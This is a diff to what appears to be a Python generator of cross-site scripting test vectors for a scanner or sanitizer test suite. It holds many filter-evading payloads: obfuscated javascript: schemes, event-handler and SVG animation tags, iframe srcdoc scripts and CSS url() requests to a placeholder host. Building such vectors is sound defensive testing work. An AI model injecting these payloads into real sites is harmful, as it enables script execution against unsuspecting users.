@@ -21,7 +21,11 @@ EVALUATED = "1337"
 
 @dataclass(frozen=True, slots=True)
 class Vector:
-    """A text and what it must stand in to run: `html`, `address`, `quoted`, `apostrophes`, `bare`, `data`, `style`."""
+    """A text and what it must stand in to run.
+
+    HTML (`html`), an address, an attribute in quotes (`quoted`, `apostrophes`) or in none (`bare`), JSON
+    within a script (`data`), a style.
+    """
 
     number: int
     context: str
@@ -36,7 +40,7 @@ _CALLS = (
     "hit`{n}`",
     "top['hi'+'t']?.({n})??hit({n})",
     "setTimeout('hit({n})')",
-    "h&#105it&#40;{n}&#41".replace("&#105it", "&#105;t"),
+    "h&#105;t&#40;{n}&#41",
 )
 _SHAPES = (" ", "/", "\n", "\t", "  \n ", "/\t/")
 _QUOTES = ("", '"', "'")
@@ -83,7 +87,7 @@ _SCHEMES = (
     "java&NewLine;script:",
     "&#1;javascript:",
     " javascript:",
-    "&#0000106avascript:".replace("06a", "06;a"),
+    "&#0000106;avascript:",
     "javascript&#58;",
 )
 _CODES = ("hit({n})", "%68it({n})", "//%0Ahit({n})", "void(hit({n}))", "`${{hit({n})}}`", "'<b>';hit({n})")
@@ -141,7 +145,7 @@ _ESCAPES = (
     "<table><caption><svg><foreignObject></table>{call}",
     "<select><option>x</select>{call}",
     "<div><template shadowrootmode=open>{call}</template></div>{call}",
-    "<p title=\"`\">{call}`\"'>",
+    '<p title="`">{call}`"\'>',
     "<a href='x>'>{call}",
     "<p <p>{call}",
     "<<p>{call}",
@@ -165,7 +169,7 @@ _SCRIPTS = (
     "<script src='data:,hit({n})'></script>",
     "<iframe srcdoc='<script>hit({n})</script>'></iframe>",
     "<iframe srcdoc='&lt;script&gt;hit({n})&lt;/script&gt;'></iframe>",
-    "<iframe srcdoc=\"&lt;img src=x onerror=hit({n})&gt;\">",
+    '<iframe srcdoc="&lt;img src=x onerror=hit({n})&gt;">',
     "<svg><animate onbegin=hit({n}) attributeName=x dur=1s></svg>",
     "<svg><set onbegin=hit({n}) attributeName=x></svg>",
     "<svg><animateTransform onbegin=hit({n}) attributeName=transform></svg>",
@@ -173,7 +177,7 @@ _SCRIPTS = (
     "<video><source onerror=hit({n})></video>",
     "<body onload=hit({n})>",
     "<body onpageshow=hit({n})>",
-    "<body onfocus=hit({n})>",
+    "<audio src=x onloadstart=hit({n})></audio>",
 )
 # Requests that a page makes by itself. `//` is whatever the page came by.
 _REQUESTS = (
@@ -194,7 +198,7 @@ _REQUESTS = (
     "<style>@import '//{host}/{n}';</style>",
     "<style>*{{background:url(//{host}/{n})}}</style>",
     "<p style='background:url(//{host}/{n})'>x</p>",
-    "<p style=\"background:u\\rl(//{host}/{n})\">x</p>",
+    '<p style="background:u\\rl(//{host}/{n})">x</p>',
     "<p style='list-style:url(//{host}/{n});display:list-item'>x</p>",
     "<p style='border-image:url(//{host}/{n}) 9'>x</p>",
     "<table background=//{host}/{n}><tr><td>x</table>",
@@ -252,7 +256,12 @@ def vectors() -> tuple[Vector, ...]:
 
 def _handlers() -> Iterator[tuple[str, str]]:
     """Elements with a handler: which call, which spaces, which quotes and which case go round in turn."""
-    calls, shapes, quotes, cases = cycle(_CALLS), cycle(_SHAPES), cycle(_QUOTES), cycle((str.lower, str.upper, _mixed))
+    calls, shapes, quotes, cases = (
+        cycle(_CALLS),
+        cycle(_SHAPES),
+        cycle(_QUOTES),
+        cycle((str.lower, str.upper, _mixed)),
+    )
     for tag, rest, handler, end in _ELEMENTS:
         for _ in range(_OF_EACH):
             call, gap, quote, case = next(calls), next(shapes), next(quotes), next(cases)
